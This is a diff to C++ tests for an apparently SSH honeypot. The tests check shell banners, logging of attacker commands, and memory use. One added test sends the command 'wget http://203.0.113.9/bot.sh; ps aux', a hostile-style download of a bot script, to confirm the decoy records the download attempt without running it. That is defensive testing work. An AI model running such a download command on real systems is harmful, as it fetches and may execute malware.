@@ -143,7 +143,7 @@ TEST_F(SshServiceTest, InteractiveShellWithTerminal) {
           " -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
           "-o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 root@127.0.0.1");
   EXPECT_NE(result.output.find("root@SRV-ALPHA-42:~# "), std::string::npos) << result.output;
-  EXPECT_NE(result.output.find("Linux SRV-ALPHA-42 5.15.0-91-generic"), std::string::npos)
+  EXPECT_NE(result.output.find("Linux SRV-ALPHA-42 6.1.0-28-amd64"), std::string::npos)
       << result.output;
   EXPECT_TRUE(decoy_->waitFor({" ssh - command ", "cmd=\"cat /etc/hostname\"", "cwd=\"/root\""}))
       << decoy_->events();
@@ -177,6 +177,14 @@ TEST_F(SshServiceTest, ScpUploadIsHashed) {
       << decoy_->events();
 }
 
+TEST_F(SshServiceTest, DownloadsAreRecordedNeverRun) {
+  const auto result = ssh("s3cret!", "admin@127.0.0.1 'wget http://203.0.113.9/bot.sh; ps aux'");
+  EXPECT_NE(result.output.find("USER         PID %CPU %MEM"), std::string::npos) << result.output;
+  EXPECT_TRUE(decoy_->waitFor({" ssh - download_attempt ", "url=\"http://203.0.113.9/bot.sh\"",
+                               "tool=\"wget\"", "principal=\"admin\""}))
+      << decoy_->events();
+}
+
 TEST_F(SshServiceTest, SixFailuresDisconnectLikeOpenSsh) {
   const auto result = ssh("nope", "admin@127.0.0.1 true",
                           "-o NumberOfPasswordPrompts=10 -o PreferredAuthentications=password");
@@ -192,6 +200,9 @@ TEST_F(SshServiceTest, IdleMemoryIsSmall) {
     client.receive(2s, "\n");
   }
   ASSERT_TRUE(decoy_->waitFor({" ssh - disconnect "}));
+  // The RSA host key is made by a thread of its own on a first start; wait for it to end.
+  for (int i = 0; i < 100 && decoy_->status("Threads") != 1; ++i)
+    std::this_thread::sleep_for(100ms);
   std::this_thread::sleep_for(300ms);
   const long rss = decoy_->status("VmRSS");
   const long anon = decoy_->status("RssAnon");
